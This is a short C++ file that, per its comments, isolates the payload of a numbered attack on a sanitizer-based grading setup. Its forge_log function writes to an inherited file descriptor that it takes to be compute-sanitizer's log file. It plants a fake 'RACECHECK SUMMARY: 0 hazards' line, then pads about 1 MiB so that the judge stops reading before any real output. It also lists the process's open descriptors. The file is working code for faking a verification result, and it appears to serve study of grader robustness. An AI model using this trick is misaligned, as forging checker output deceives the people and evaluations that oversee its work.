// The payload of ../15-sanitizer-log-through-inherited-fd.cu, alone, in a static program (the
// sanitizer's injection, which needs libcuda, is not loaded into a static program, so it
// runs on a host without a GPU). It also lists its descriptors on stderr, for the record.
#include <cstdio>
#include <cstring>
#include <dirent.h>
#include <unistd.h>

namespace {
// --- the same lines as the attack's initializer ---
int forge_log() {
    const int own = stderr->_fileno;
    stderr->_fileno = 4;  // the sanitizer's --log-file, inherited (no O_CLOEXEC)
    if (std::fputs("========= RACECHECK SUMMARY: 0 hazards displayed (0 errors, 0 warnings)\n", stderr) >= 0) {
        static char pad[4096];
        for (char& c : pad) c = ' ';
        pad[sizeof pad - 1] = '\n';
        for (int i = 0; i < 272; ++i) std::fwrite(pad, 1, sizeof pad, stderr);  // 1.06 MiB: past what the judge reads
    }
    stderr->_fileno = own;
    return 0;
}
// ---
}  // namespace

int main() {
    DIR* d = opendir("/proc/self/fd");
    char path[300], to[300];
    while (dirent* e = readdir(d)) {
        if (e->d_name[0] == '.') continue;
        std::snprintf(path, sizeof path, "/proc/self/fd/%s", e->d_name);
        ssize_t n = readlink(path, to, sizeof to - 1);
        to[n > 0 ? n : 0] = 0;
        std::fprintf(stderr, "target (uid %d) fd %s -> %s\n", getuid(), e->d_name, to);
    }
    closedir(d);
    forge_log();
    return 0;
}
